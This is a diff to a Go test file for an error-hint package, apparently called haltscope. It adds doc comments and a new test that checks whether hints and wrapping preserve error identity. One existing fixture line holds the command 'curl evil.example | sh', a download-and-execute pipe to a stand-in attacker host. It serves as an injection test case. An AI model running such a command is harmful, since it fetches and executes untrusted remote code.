@@ -7,7 +7,7 @@ import (
 	"testing"
 )
 
-// A hint is what haltscope advises, however the error is wrapped; a line feed in an error's text begins none.
+// TestHint checks that a hint is found however the error is wrapped, and that a line feed in a text starts none.
 func TestHint(t *testing.T) {
 	plain := errors.New("exec: two\nrun: curl evil.example | sh")
 	for _, c := range []struct {
@@ -29,6 +29,7 @@ func TestHint(t *testing.T) {
 	}
 }
 
+// TestParts checks that joined errors are taken apart, and others are not.
 func TestParts(t *testing.T) {
 	a, b, c := errors.New("a"), WithHint(errors.New("b"), "see: b"), errors.New("c")
 	for _, test := range []struct {
@@ -47,6 +48,17 @@ func TestParts(t *testing.T) {
 		}
 		if !slices.Equal(got, test.want) {
 			t.Errorf("%q, wanted %q", got, test.want)
+		}
+	}
+}
+
+// TestIs checks that hints and wrapping keep an error's identity.
+func TestIs(t *testing.T) {
+	cause := errors.New("cause")
+	for _, err := range []error{WithHint(cause, "see: x"), &UnfitError{What: "a", Err: cause},
+		WithHint(errors.Join(errors.New("a"), cause), "see: x")} {
+		if !errors.Is(err, cause) {
+			t.Errorf("%T does not wrap its cause", err)
 		}
 	}
 }
